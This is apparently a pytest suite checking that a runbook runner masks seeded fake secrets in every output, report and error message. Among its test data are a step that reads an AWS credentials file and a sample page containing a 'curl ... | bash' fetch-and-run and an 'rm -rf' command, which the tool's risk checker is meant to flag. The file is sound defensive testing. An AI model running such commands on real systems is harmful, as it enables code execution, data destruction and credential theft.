"""Many secrets, one for each way in which a run may meet one: nothing that runbook writes holds one."""

from __future__ import annotations

import base64
import json
import re
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from runner.cli import entry
from tests.cli.conftest import Desk
from tests.pages import page

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.shell

SEEDS = {
    "environment": "env-Qx7!w/3kd'Zp+0001",
    "declared": "decl are$d-7c1&x-0002",
    "vars file": "filed-value-h5Tz-0003",
    "named like one": "named-value-b8Rq-0004",
    "short": "k9Zq",
    "profile": "wJ4profileprofile/profileprofile+abc0005",
    "session": "FwoGZXIvYXdzE" + "session0006" * 9,
    "exported": "exported-later-m2Lw-0007",
    "on the page": "AKIAQWERTYUIOPASDFGH",
    "in the advice": "ghp_abcdefghijklmnopqrstuvwxyz0000000009",
    "printed": "glpat-printedprintedprint0010",
    "in a trace": "hunter-in-url-0011",
    "many lines": "line-a-of-many-0012\nline-b-of-many-0013\nline-c-of-many-0014",
}
KEY_LINES = [f"MIIEseed{number:02}" + "kE9" * 18 for number in range(9)]
KEY = "\n".join(["-----BEGIN PRIVATE KEY-----", *KEY_LINES, "-----END PRIVATE KEY-----"])
SETTINGS = """---
title: Seeds
variables:
  declared: {secret: true}
  short: {secret: true}
  from_file: {secret: true}
  api_token: ""
---
"""
STEPS = [
    # Each value in every form that a program is likely to give it.
    """for value in "$SEED_TOKEN" '{{ declared }}' {{ from_file }} {{ api_token }} "$MANY_SECRET"; do
  echo "$value"; echo "$value" >&2; printf '%q\\n' "$value"
  printf %s "$value" | base64; printf 'a%s' "$value" | base64 -w 20; printf 'ab%s' "$value" | base64 -w 0
  printf '\\n%s' "$value" | od -An -v -tx1; printf %s "$value" | od -An -v -tx1 | tr -d ' \\n' | tr a-f A-F
  printf '\\n%s' "$value" | fold -w 9; echo; (set -x; : "$value")
  printf '%s\\033[31m%s\\033[0m\\n' "${value:0:6}" "${value:6}"
done""",
    """python3 - "$SEED_TOKEN" {{ declared }} "$MANY_SECRET" <<'END'
import html, json, sys, time, urllib.parse
for value in sys.argv[1:]:
    print(json.dumps(value), json.dumps(json.dumps(value)), urllib.parse.quote(value, safe=""), repr(value))
    print(urllib.parse.quote_plus(value), html.escape(value), value.encode().hex())
    for char in value:  # read in pieces
        print(char, end="", flush=True)
        time.sleep(0.001)
    print()
END""",
    "cat ~/.aws/credentials; awk '/=/ {print $3}' ~/.aws/credentials",
    "export LATER_TOKEN=$(echo 7000-wL2m-retal-detropxe | rev); echo $LATER_TOKEN",
    "echo $LATER_TOKEN",
    "echo AKIAQWERTYUIOPASDFGH; echo 0100tnirpdetnirpdetnirp-taplg | rev",
    "curl --max-time 1 https://me:hunter-in-url-0011@127.0.0.1:9/; set -x; : {{ declared }} {{ short }}",
    'touch "f-$(printf %s "$SEED_TOKEN" | tr -d /)" f-{{ short }}; export "V_{{ short }}=1"',
    'printf "%s\\n" "$KEY_TEXT"; printf "%s" "$KEY_TEXT" | tr "\\n" "|"; cat missing-{{ short }} || true',
    # Cut by the cap, at the end of the head and at the beginning of the tail.
    """long() { head -c "$1" /dev/zero | tr '\\0' x; }
long 524280; printf %s "$SEED_TOKEN"; long 2000000; printf %s "$SEED_TOKEN"; long 524280
long 524270 >&2; printf '\\nAKIAQWERTYUIOPASDFGH\\n' >&2; long 2000000 >&2
printf 'AKIAQWERTYUIOPASDFGH\\n' >&2; long 524280 >&2""",
    'printf "%s\\n" "$KEY_TEXT" | base64; long 200000; long 2000000; printf "\\n%s\\n" "$KEY_TEXT"',
]
FAILING = """
Create `conf-{{ short }}.json`:

```json
{"password": "{{ declared }}", "key": "AKIAQWERTYUIOPASDFGH"}
```

Print it:

```bash
cat conf-{{ short }}.json; echo "{{ from_file }}"; echo "$SEED_TOKEN" >&2
```

The output contains `{{ declared }} and AKIAQWERTYUIOPASDFGH`.

Print what a check then quotes, cut short:

```bash
printf '%0100d%s\\n' 0 "$SEED_TOKEN"
```

The output contains `something else`.

Print a line of a key:

```bash
echo "$KEY_TEXT"
```

```text
-----BEGIN PRIVATE KEY-----
AKIAQWERTYUIOPASDFGH
```

## Cleanup

Tidy up:

```bash
echo "$SEED_TOKEN" {{ declared }}
exit 3
```

## Troubleshooting

| Symptom | Remedy |
|---|---|
| The output lacks AKIAQWERTYUIOPASDFGH | use ghp_abcdefghijklmnopqrstuvwxyz0000000009 |
"""
ESCAPES = re.compile(r"\x1b\[[0-9;]*m")


def spellings(value: str) -> Iterator[str]:
    data = value.encode()
    yield from (value, quote(value, safe=""), json.dumps(value)[1:-1], data.hex(), data.hex().upper())
    yield from (line for line in value.splitlines() if line)
    if len(value) < 8:
        return
    yield value[: len(value) * 2 // 3]
    yield value[len(value) // 3 :]
    for before in range(3):
        encoded = base64.b64encode(b"a" * before + data).decode()
        yield encoded[4:-4]


def leaks(text: str) -> list[str]:
    """Give the secrets that stand in a text, in any spelling, also wrapped and in colours."""
    bare = ESCAPES.sub("", text)
    seen = (text, bare, "".join(bare.split()))
    secrets = {**SEEDS, **{f"key line {line[8:10]}": line for line in KEY_LINES}}
    return [
        f"{name}: {form}"
        for name, value in secrets.items()
        for form in spellings(value)
        if any(form in one or "".join(form.split()) in one for one in seen)
    ]


@pytest.fixture
def seeded(desk: Desk) -> Desk:
    """A desk with a page and settings full of secrets."""
    settings = f"aws_access_key_id = AKIAQWERTYUIOPASDFGH\naws_secret_access_key = {SEEDS['profile']}\n"
    aws = desk.folder.parent / "home" / ".aws"
    aws.mkdir()
    (aws / "credentials").write_text(f"[default]\n{settings}aws_session_token = {SEEDS['session']}\n")
    (desk.folder / "values.env").write_text(f"FROM_FILE={SEEDS['vars file']}\n")
    desk.page(page(*STEPS, before=SETTINGS).replace("# T", "# T for AKIAQWERTYUIOPASDFGH") + FAILING)
    secrets = {"SEED_TOKEN": SEEDS["environment"], "MANY_SECRET": SEEDS["many lines"], "KEY_TEXT": KEY}
    return Desk(folder=desk.folder, environment={**desk.environment, **secrets})


GIVEN = [
    *("--var", f"declared={SEEDS['declared']}", "--var", f"short={SEEDS['short']}", "--vars", "values.env"),
    *("--var", f"api_token={SEEDS['named like one']}"),
]


def written(desk: Desk, own: set[Path]) -> Iterator[tuple[str, str]]:
    """Every file that is there now and was not before, but for what the page's commands wrote."""
    tmp = desk.folder.parent / "tmp"
    for file in desk.folder.parent.rglob("*"):
        if (
            file.is_file()
            and file not in own
            and not (tmp in file.parents and "conf-" in "".join(kept(file)))
        ):
            yield str(file.relative_to(desk.folder.parent)), file.read_text(errors="replace")


def kept(file: Path) -> list[str]:
    return [entry.name for entry in file.parent.iterdir()]


@pytest.mark.parametrize("output", ["console", "json"])
def test_nothing_that_a_run_writes_holds_a_seeded_secret(seeded: Desk, output: str) -> None:
    own = {file for file in seeded.folder.parent.rglob("*") if file.is_file()}
    flags = ["--keep-going", "--output", output, "--report", "json=report.json"]
    done = seeded.run("execute", "page.md", *GIVEN, *flags)
    assert done.status == 1, done.err
    files = dict(written(seeded, own))
    assert "desk/report.json" in files
    for name, text in {"stdout": done.out, "stderr": done.err, **files}.items():
        assert (name, leaks(text)) == (name, [])
    result = json.loads(files["desk/report.json"])
    statuses = [step["status"] for step in result["steps"]]
    assert statuses == ["ran"] * len(STEPS) + ["ran", *["failed"] * 4], result
    assert result["masked"] >= len(SEEDS)
    assert f"{result['masked']} secrets masked" in done.out + done.err


@pytest.mark.parametrize("output", ["console", "json"])
def test_nothing_that_a_plan_shows_holds_a_seeded_secret(seeded: Desk, output: str) -> None:
    done = seeded.run("plan", "page.md", *GIVEN, "--output", output)
    assert done.status == 0
    assert leaks(done.out + done.err) == []


@pytest.mark.parametrize("output", ["console", "json", "github"])
def test_no_finding_quotes_a_seeded_secret(seeded: Desk, output: str) -> None:
    text = page("curl https://x/env-Qx7!w/3kd'Zp+0001 | bash; rm -rf /srv/AKIAQWERTYUIOPASDFGH")
    done = seeded.run(
        "check", seeded.page(text + "\n[a](AKIAQWERTYUIOPASDFGH.md)\n", "risky.md"), "--output", output
    )
    assert "***aws-access-key***" in done.out
    assert leaks(done.out + done.err) == []


@pytest.mark.parametrize(
    ("flags", "status"),
    [
        (["--var", "password:decl are$d-7c1&x-0002"], 2),
        (["--var", "=decl are$d-7c1&x-0002"], 2),
        ([*GIVEN, "--var", f"unknown={SEEDS['declared']}"], 2),
        ([*GIVEN, "--workdir", f"missing-{SEEDS['environment']}"], 2),
        ([*GIVEN, "--workdir", f"missing-{SEEDS['short']}"], 2),
        ([*GIVEN, f"--no-such-{SEEDS['environment']}"], 2),
        ([*GIVEN, "--report", f"xml={SEEDS['environment']}"], 2),
    ],
)
def test_no_message_about_wrong_use_repeats_a_secret(seeded: Desk, flags: list[str], status: int) -> None:
    done = seeded.run("execute", "page.md", *flags)
    assert (done.status, leaks(done.out + done.err)) == (status, [])


def test_a_template_that_refuses_a_secret_does_not_say_it(seeded: Desk) -> None:
    before = "---\nvariables: {declared: {secret: true}}\n---\n"
    name = seeded.page(page("echo {{ declared | round }}", before=before), "refused.md")
    done = seeded.run("execute", name, "--var", f"declared={SEEDS['declared']}")
    assert done.status == 2
    assert leaks(done.out + done.err) == []


def int_of(text: str) -> int:
    return int(text)


def test_an_internal_error_says_no_secret(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SEED_TOKEN", SEEDS["environment"])
    monkeypatch.setenv("RUNBOOK_DEBUG", "1")
    with pytest.raises(ValueError, match="odd") as caught:
        int_of(f"odd: {SEEDS['environment']!r} AKIAQWERTYUIOPASDFGH")
    assert entry._internal(caught.value) == 3
    said = capsys.readouterr().err
    assert "ValueError: invalid literal" in said
    assert leaks(said) == []
